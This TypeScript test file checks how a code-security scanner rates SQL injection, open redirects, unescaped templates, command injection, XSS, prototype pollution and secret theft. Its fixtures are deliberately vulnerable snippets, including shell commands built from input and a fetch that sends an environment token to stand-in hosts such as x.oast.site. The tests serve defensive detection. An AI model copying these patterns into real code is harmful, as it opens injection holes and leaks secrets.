import assert from 'node:assert/strict';
import { test } from 'node:test';
import { classify } from '../../../src/core/classify.ts';
import { defaultPolicy } from '../../../src/core/policy/index.ts';
import { createGrammars } from '../../../src/platform/grammars.ts';

const ctx = { grammars: createGrammars(), policy: defaultPolicy };

/** The tier at which a rule speaks of a new file, or `-`. */
const weigh = async (rule: string, path: string, after: string, before: string | null = null): Promise<string> =>
  (await classify([{ path, before, after }], ctx)).findings.find((f) => f.rule === rule)?.tier ?? '-';

test('what is put into SQL weighs by where it stands and where it comes from', async () => {
  const js = async (sql: string, rest = '', head = 'export async function f(pool, name, column, req)') =>
    weigh('sql-injection', 'src/a.ts', `${rest}\n${head} {\n  return pool.query(${sql});\n}\n`);
  const select = (rest: string): string => `\`SELECT id FROM users ${rest}\``;
  assert.equal(await js(select("WHERE name = '${name}'")), 'high', 'a value');
  assert.equal(await js(select('WHERE name = ${name}')), 'high', 'without quotes');
  assert.equal(await js(select("WHERE name LIKE '%${name}%'")), 'high');
  assert.equal(await js(select('WHERE id IN (${name})')), 'high');
  assert.equal(await js(select("WHERE name = '${getName()}'")), 'high', 'of a call');
  assert.equal(await js(select('ORDER BY ${column}')), 'medium', 'a name');
  assert.equal(await js(select('ORDER BY ${req.query.sort}')), 'high', 'a name that a request sends');
  assert.equal(await js(select('ORDER BY ${userInput}')), 'high', 'a name that says so');
  assert.equal(await js(select('WHERE name = ${columns.includes(name) ? name : name}')), 'high', 'a choice of values');
  assert.equal(await js(select("ORDER BY ${column === 'a' ? 'a' : 'b'}")), '-', 'one of two texts');
  assert.equal(
    await js(select('ORDER BY ${sorts[column]}'), "const sorts = { a: 'name', b: 'id' };"),
    '-',
    'of a table',
  );
  assert.equal(await js(select('ORDER BY ${sorts[column] ?? column}'), "const sorts = { a: 'name' };"), 'medium');
  assert.equal(
    await js(select('ORDER BY ${sorts[column]}'), 'const sorts = load();'),
    'medium',
    'a table made elsewhere',
  );
  assert.equal(await js(select('WHERE ${TABLE}.id = $1')), '-', 'a constant');
  assert.equal(await js(select('WHERE name = ${this.name}')), 'medium', 'what an object holds');
  assert.equal(await js(select('LIMIT ${n}'), '', 'export async function f(pool, n: number)'), '-', 'a number');
  assert.equal(await js(select("WHERE a = '${n}'"), '', 'export async function f(pool, n: number | string)'), 'high');
  assert.equal(await js(select('ORDER BY ${n}'), '', 'export async function f(pool, n: number[])'), 'medium');
});

test('a name that all callers of a private function write out is no variable', async () => {
  const js = async (calls: string, head = 'function f') =>
    weigh(
      'sql-injection',
      'src/a.ts',
      `${head}(pool, column) {\n  return pool.query(\`SELECT max(\${column}) FROM t\`);\n}\n${calls}`,
    );
  assert.equal(await js("f(db, 'a');\nf(db, 'b');\n"), '-');
  assert.equal(await js("f(db, 'a');\nf(db, process.argv[2]);\n"), 'medium');
  assert.equal(await js("f(db, 'a');\nexport { f };\n"), 'medium');
  assert.equal(await js("f(db, 'a');\nmodule.exports = { f };\n"), 'medium');
  assert.equal(await js("f(db, 'a');\n[x].map((c) => f(db, c));\n"), 'medium');
  assert.equal(await js("f(db, 'a');\n", 'export function f'), 'medium');
  assert.equal(await js("f(db, 'a');\nrun(f);\n"), 'medium', 'handed on');
});

test('conditions of a query that the driver binds are no text', async () => {
  const py = async (code: string, head = 'from sqlalchemy import select, text\nPREFIX = "a"\nNAME = f"{PREFIX}-b"\n') =>
    weigh('sql-injection', 'src/a.py', `${head}def f(session, org, value, request):\n    return ${code}\n`);
  assert.equal(await py('session.execute(select(User).join(A, A.id == User.id).where(A.org == org.id))'), '-');
  assert.equal(await py('session.scalar(select(E.id).where(E.key.startswith(NAME, autoescape=True)))'), '-');
  assert.equal(await py('session.execute(select(User).where(text(f"name = \'{value}\'")))'), 'high');
  assert.equal(await py('session.execute(text(f"SELECT id FROM users WHERE name = \'{value}\'"))'), 'high');
  assert.equal(await py('session.execute("SELECT id FROM users WHERE name = \'%s\'" % value)'), 'high');
  assert.equal(await py('session.execute("SELECT id FROM users WHERE n = \'{}\' AND b = 1".format(value))'), 'high');
  assert.equal(await py('session.execute("SELECT id FROM users WHERE n = %d" % value)'), '-');
  assert.equal(await py('session.execute(f"SELECT id FROM {value}")'), 'medium');
  assert.equal(await py('session.execute(f"SELECT id FROM {request.args[\'t\']}")'), 'high');
  assert.equal(await py('session.execute(f"SELECT id FROM {NAME}")'), '-');
});

test('a redirect weighs by who decides the head of its address', async () => {
  const js = async (to: string, before = '') =>
    weigh(
      'open-redirect',
      'src/a.ts',
      `export async function go(req, res, base) {\n${before}\n  res.redirect(${to});\n}\nconst hosts = { a: 'a.example', b: 'b.example' };\n`,
    );
  assert.equal(await js('req.query.next'), 'high');
  assert.equal(await js('req.query.next || "/"'), 'high');
  assert.equal(await js('`${base}${req.query.next}`'), 'high', 'nothing between');
  assert.equal(await js('`https://example.com${req.query.next}`'), 'high', 'more of the host');
  assert.equal(await js('`https://${req.query.host}/home`'), 'high');
  assert.equal(await js('`https://${encodeURIComponent(req.query.host)}/home`'), 'high');
  assert.equal(await js("'/' + req.query.next"), 'medium', 'a second slash');
  assert.equal(await js("'/home?next=' + req.query.next"), '-');
  assert.equal(await js("subUrl('/redirect') + '?to=' + encodeURIComponent(req.query.next)"), '-');
  assert.equal(await js('`${base}?to=${req.query.next}`'), '-', 'behind a question mark');
  assert.equal(await js("`${buildUrl('login')}?to=${req.originalUrl}`"), '-');
  assert.equal(
    await js('`https://${hosts[req.query.h]}${path}`', '  const path = req.url === "" ? "/" : `/u${req.url}`;'),
    '-',
  );
  assert.equal(await js('`https://${hosts[req.query.h] || req.query.h}/x`'), 'high', 'or the value itself');
  assert.equal(await js('`https://${hosts[req.query.h]}${req.query.p}`'), 'high');
  assert.equal(
    await js('file.url', '  const file = await this.mediaService.getFile(id);\n  const id = req.params.id;'),
    'low',
  );
  assert.equal(
    await js('user.website', '  const user = await this.userService.getUser(id);\n  const id = req.params.id;'),
    'high',
  );
  assert.equal(await js('to', '  const to = req.query.a ? "/a" : "";'), '-');
  assert.equal(
    await js('`${to}${req.query.b}`', '  const to = req.query.a ? "/a" : "";'),
    'high',
    'perhaps nothing before',
  );
  const guarded = (test: string): Promise<string> =>
    js('next', `  let next = req.query.next;\n  if (${test}) next = '/';`);
  assert.equal(await guarded("!next.startsWith('/')"), 'medium', 'half a guard');
  assert.equal(await guarded("!next.startsWith('/') || next.startsWith('//')"), 'medium');
  assert.equal(await guarded("!next.startsWith('/') || next.startsWith('//') || next.startsWith('/\\\\')"), '-');
  assert.equal(await guarded('new URL(next, base).host !== own'), '-');
});

test('a page goes where its own address says', async () => {
  const js = (code: string): Promise<string> =>
    weigh('open-redirect', 'src/a.tsx', `export function go(loginUrl) {\n  ${code}\n}\n`);
  const params = 'new URLSearchParams(window.location.search)';
  assert.equal(await js(`window.location.href = ${params}.get('next');`), 'high');
  assert.equal(await js(`location.assign(${params}.get('next') ?? '/');`), 'high');
  assert.equal(
    await js(`location.assign(subUrl('/redirect') + '?to=' + encodeURIComponent(${params}.get('a')));`),
    '-',
  );
  assert.equal(
    await js(
      'window.location.href = `${loginUrl}?redirect=${encodeURIComponent(location.pathname + location.search)}`;',
    ),
    '-',
  );
});

test('a value that a template puts in as it is counts once, wherever in its place it stands', async () => {
  const page = (after: string, before: string | null = null, path = 'templates/a.html'): Promise<string> =>
    weigh('template-unescaped', path, after, before);
  assert.equal(
    await page('<p>{{ "<b>" + (name | safe) + "</b>" }}</p>\n', '<p>{{ "<b>" ~ (name | safe) ~ "</b>" }}</p>\n'),
    '-',
  );
  assert.equal(await page('<p>{{ name | safe }}</p>\n', '<p>{{ name }}</p>\n'), 'high');
  assert.equal(
    await page('<p>{{ name | safe }}</p>\n', '<p>{{ name | escape | safe }}</p>\n'),
    'high',
    'a filter is gone',
  );
  assert.equal(await page('<p>{{ title | safe }}</p>\n', '<p>{{ name | safe }}</p>\n'), 'high', 'another value');
  assert.equal(await page('<p>{{ a | safe }}{{ a | safe }}</p>\n', '<p>{{ a | safe }}{{ b }}</p>\n'), 'high', 'twice');
  assert.equal(await page('<p>{{ "a" ~ (a|safe) ~ (b|safe) }}</p>\n', '<p>{{ "a" ~ (a|safe) ~ b }}</p>\n'), 'high');
  assert.equal(await page('<script>{{ a | safe }}</script>\n', '<p>{{ a | safe }}</p>\n'), 'high', 'in a script now');
  assert.equal(await page('<p title="{{ a | safe }}">b</p>\n', '<p>{{ a | safe }}</p>\n'), 'high', 'in a tag now');
  assert.equal(await page('<p>{{ "<br>" | safe }}</p>\n'), '-', 'a text of its own');
  assert.equal(await page('<p>{{ ("<br>" ~ a) | safe }}</p>\n'), 'high');
  assert.equal(await page('<div v-html="b"></div>\n', '<div v-html="a"></div>\n', 'src/a.html'), 'high');
});

test('a text that a template says is markup is no value', async () => {
  const erb = (tag: string): Promise<string> =>
    weigh('template-unescaped', 'app/views/a.html.erb', `<p><%= ${tag} %></p>\n`);
  assert.equal(await erb("' data-a'.html_safe if b"), '-');
  assert.equal(await erb('raw "<br>"'), '-');
  assert.equal(await erb("(a ? '<b>' : '<i>').html_safe"), '-');
  assert.equal(await erb('"<b>#{a}</b>".html_safe'), 'high');
  assert.equal(await erb("('<b>' + a).html_safe"), 'high');
  assert.equal(await erb("a ? b.html_safe : '<i>'.html_safe"), 'high');
  assert.equal(await erb("'a'.html_safe if b; c.html_safe"), 'high');
  assert.equal(await erb('a.html_safe'), 'high');
});

test('what a template makes that is no page has no attributes', async () => {
  assert.equal(
    await weigh('template-unescaped', 'prepare/env.jinja', 'A=b\nHTTP_PROXY={{ proxy }}\nB={{ c | safe }}\n'),
    '-',
  );
  assert.equal(await weigh('template-unescaped', 'a.jinja', 'A=b\nHTTP_PROXY={{ proxy }}\nC={{ d }}\n'), '-');
  assert.equal(await weigh('template-unescaped', 'a.jinja', '<a href={{ url }}>a</a>\n'), 'medium');
  assert.equal(
    await weigh('template-unescaped', 'mail.conf.j2', '<p>{{ name | safe }}</p>\n'),
    'high',
    'a page all the same',
  );
  assert.equal(await weigh('template-unescaped', 'a.jinja', 'Hello {{ name | safe }}\n'), 'high');
});

test('a command that moves is the old one, whatever its variables are called', async () => {
  const py = (after: string, before: string, head = ''): Promise<string> =>
    weigh(
      'command-injection',
      'src/a.py',
      `import subprocess\nimport requests\n${head}class A:\n    def stop(self, given):\n${after}`,
      `import subprocess\nimport requests\n${head}class A:\n    def stop_all(self, given):\n${before}`,
    );
  const old =
    '        for i in self.ids:\n            subprocess.check_call(f"gmsaas instances stop {i}", shell=True)\n';
  const now = (name: string, of: string): string =>
    `        try:\n            pass\n        finally:\n            pass\n        ${of}\n        subprocess.check_call(f"gmsaas instances stop {${name}}", shell=True)\n`;
  assert.equal(await py(now('one', 'one = self.ids[0]'), old), '-');
  assert.equal(await py(now('one', 'one = requests.get(self.url).text'), old), 'high', 'from the network now');
  assert.equal(await py(now('given', 'pass'), old), 'high', 'handed in now');
  assert.equal(await py(now('one', 'one = self.ids[0]').replace('stop {', 'delete {'), old), 'high', 'another command');
  assert.equal(
    await py(
      now('one', 'one = self.ids[0]'),
      old.replace(', shell=True', '').replace('f"', '["a", f"').replace('}"', '}"]'),
    ),
    'high',
    'no shell before',
  );
});

test('a pattern that is looked for starts no program', async () => {
  const js = (code: string): Promise<string> => weigh('command-injection', 'src/a.js', `${code}\n`);
  assert.equal(
    await js('function f(e) { let a = 1, r = /\\n/g, o; while ((o = r.exec(e.buffer))) a++; return a; }'),
    '-',
  );
  assert.equal(await js("const r = require('child_process');\nfunction f(x) { r.exec(`git ${x}`); }"), 'high');
  assert.equal(await js("const { exec } = require('child_process');\nfunction f(x) { exec(`git ${x}`); }"), 'high');
});

test('markup that is copied within a page is not new to it', async () => {
  const js = (code: string): Promise<string> =>
    weigh('cross-site-scripting', 'src/a.ts', `export function f(data, node) {\n${code}\n}\n`);
  assert.equal(
    await js(
      "  const box = document.getElementById('a');\n  const copy = document.createElement('div');\n  copy.innerHTML = box.innerHTML;",
    ),
    '-',
  );
  assert.equal(
    await js('  document.title = 1;\n  out.innerHTML = node.innerHTML;'),
    'medium',
    'an element that is not known',
  );
  assert.equal(
    await js(
      "  const doc = new DOMParser().parseFromString(data, 'text/html');\n  out.innerHTML = doc.body.innerHTML;",
    ),
    'high',
  );
  assert.equal(
    await js("  const t = document.createElement('div');\n  t.textContent = data;\n  out.innerHTML = t.innerHTML;"),
    'high',
  );
  assert.equal(await js('  out.innerHTML = data.html;'), 'high');
  assert.equal(
    await js("  const box = document.getElementById('a');\n  out.innerHTML = box.textContent;"),
    'high',
    'decoded',
  );
  assert.equal(
    await js("  const box = document.getElementById('a');\n  out.innerHTML = box.innerHTML + data;"),
    'high',
  );
});

test('what a build tool made is read by nobody, but for what is made on purpose', async () => {
  const line = `var a=1;${'b();'.repeat(400)}`;
  const walk = 'function set(o,path,v){for(const p of path.split("."))o=o[p];o[path.split(".")[0]]=v}';
  const bundle = (path: string, text: string): Promise<string> => weigh('prototype-pollution', path, text);
  const merge =
    'function merge(to,from){for(const k in from){if(typeof from[k]=="object")merge(to[k],from[k]);else to[k]=from[k]}}';
  assert.ok(walk);
  assert.equal(await bundle('public/build/assets/app-CAu7CSvV.js', `${line}${merge}\n`), '-');
  assert.equal(await bundle('public/app.js', `${line}${merge}\n`), 'high', 'no place of a build tool');
  assert.equal(await bundle('public/build/assets/app-CAu7CSvV.js', `${merge}\n`), 'high', 'written by hand');
});

test('a secret that goes to the own service in an address may be logged, elsewhere it is stolen', async () => {
  const js = (to: string): Promise<string> =>
    weigh('malicious-behaviour', 'src/a.ts', `export async function f(id) {\n  await fetch(${to});\n}\n`);
  const token = '${process.env.REVALIDATE_TOKEN}';
  assert.equal(await js(`\`\${process.env.NEXTAUTH_URL}/api/revalidate?secret=${token}&id=\${id}\``), 'medium');
  assert.equal(await js(`\`https://x.oast.site/?d=${token}\``), 'high');
  assert.equal(await js(`\`https://x.example/?d=${token}\``), 'high');
  assert.equal(await js('`${process.env.NEXTAUTH_URL}/a?s=${process.env.A_TOKEN}&t=${process.env.B_SECRET}`'), 'high');
});

test('cookies of Rails: one step up is no step down', async () => {
  const rb = (kind: string, before: string | null): Promise<string> => {
    const text = (k: string): string =>
      `# Cookies\nRails.application.config.action_dispatch.cookies_serializer = :${k}\n`;
    return weigh('web-protection-off', 'config/initializers/c.rb', text(kind), before && text(before));
  };
  assert.equal(await rb('hybrid', 'marshal'), '-');
  assert.notEqual(await rb('marshal', 'hybrid'), '-');
  assert.notEqual(await rb('hybrid', 'json'), '-');
  assert.notEqual(await rb('marshal', null), '-');
});

test('a value in another form, beside a number or behind a table is a value', async () => {
  const js = async (sql: string, head = '(db, id: string, sort: string, options)', rest = '') =>
    weigh(
      'sql-injection',
      'src/a.ts',
      `${rest}export function f${head} {\n  return db.query(\`SELECT a FROM t ${sql}\`);\n}\n`,
    );
  const other = 'export interface Row { id: number }\n';
  assert.equal(await js("WHERE id = '${id}'", undefined, other), 'high', 'a number elsewhere');
  assert.equal(await js('LIMIT ${n}', '(db, { n }: Page)', 'interface Page { n: number }\n'), '-', 'by its type');
  assert.equal(await js('WHERE id = ${parseInt(id) || String(id)}'), 'high', 'or the text itself');
  assert.equal(await js('WHERE id = ${parseInt(id.slice(1))}'), '-', 'a number');
  assert.equal(await js('ORDER BY ${sort.trim()}'), 'medium', 'another form');
  assert.equal(await js('ORDER BY ${String(sort)}'), 'medium');
  assert.equal(await js("ORDER BY ${sort.replace(/[^a-z]/g, '')}"), 'low', 'letters alone');
  assert.equal(await js('ORDER BY ${options.sort}'), 'medium', 'handed in');
  assert.equal(await js('ORDER BY ${config.sort}', undefined, "import { config } from './config';\n"), 'low');
  const py = async (get: string) =>
    weigh(
      'sql-injection',
      'src/a.py',
      `SORTS = {'a': 'name'}\n\n\ndef f(cur, sort):\n    cur.execute(f"SELECT a FROM t ORDER BY {SORTS.get(${get})}")\n`,
    );
  assert.equal(await py('sort'), '-');
  assert.equal(await py("sort, 'id'"), '-');
  assert.equal(await py('sort, sort'), 'medium', 'what is not found is taken as it is');
});

test('a path that is resolved against another address is no head', async () => {
  const js = async (to: string): Promise<string> =>
    weigh('open-redirect', 'src/a.ts', `app.get('/a', (req, res) => {\n  ${to};\n});\n`);
  assert.equal(await js("res.redirect(new URL('/done', req.query.base).toString())"), 'high');
  assert.equal(await js("res.redirect(url.resolve('/app', req.query.next))"), 'high');
  assert.equal(await js("res.redirect(buildUrl('/app', req.query.next))"), '-');
  assert.equal(await js('res.redirect(req.query.hash)'), 'high', 'a parameter of that name');
  assert.equal(await js("let to = '';\n  to += req.query.next;\n  res.redirect(to)"), 'high', 'added to nothing');
  assert.equal(await js("let to = '/a?';\n  to += req.query.next;\n  res.redirect(to)"), '-', 'added to a path');
  assert.equal(
    await js('const u = urlService.parse(req.query.next);\n  res.redirect(u.href)'),
    'high',
    'what reads an address looks none up',
  );
  assert.equal(
    await weigh(
      'open-redirect',
      'app.py',
      "from flask import redirect, request\nPAGES = {'a': '/a'}\n\n\n@app.route('/')\ndef a():\n    n = request.args['n']\n    return redirect(PAGES.get(n, n))\n",
    ),
    'high',
  );
});

test('a command under another name that others fill is another one', async () => {
  const py = (of: string): string =>
    `import os\n\n\ndef f(q):\n    name = ${of}\n    os.system('git checkout ' + name)\n`;
  const old = py('current_branch()').replaceAll('name', 'branch');
  assert.equal(await weigh('command-injection', 'src/a.py', py('current_branch()'), old), '-');
  assert.equal(await weigh('command-injection', 'src/a.py', py('q.get().body.name'), old), 'high');
  assert.equal(await weigh('command-injection', 'src/a.py', py('json.loads(text)["name"]'), old), 'high');
  const js = (call: string): string =>
    `import { runtime } from './runtime';\nexport const f = (name) => {\n  ${call};\n};\n`;
  assert.equal(await weigh('command-injection', 'src/a.ts', js("runtime.exec('rm ' + name)")), 'high');
  assert.equal(await weigh('command-injection', 'src/a.ts', js('r.exec(name)')), '-');
});

test('a line that is long by blanks or a comment was made by no tool', async () => {
  const line = (rest: string): string =>
    `module.exports = (req, res) => { db.query("SELECT * FROM t WHERE a = '" + req.query.a + "'"); ${rest} };\n`;
  const weighed = (rest: string): Promise<string> => weigh('sql-injection', 'dist/server.js', line(rest));
  assert.equal(await weighed(' '.repeat(600)), 'high');
  assert.equal(await weighed(`/*${'x'.repeat(600)}*/`), 'high');
  assert.equal(await weighed(`log("${'x'.repeat(600)}")`), 'high');
  assert.equal(await weighed('var a=1;function b(c){return c+1}'.repeat(30)), '-');
});

test('an attribute without quotes is one behind a value with an angle bracket, too', async () => {
  const html = (tag: string): Promise<string> => weigh('template-unescaped', 'a.html', `${tag}\n`);
  assert.equal(await html('<div x-data="{a: b > c}" class={{ x }}>a</div>'), 'medium');
  assert.equal(await html('<p title="a">it\'s a={{ x }}</p>'), '-');
});
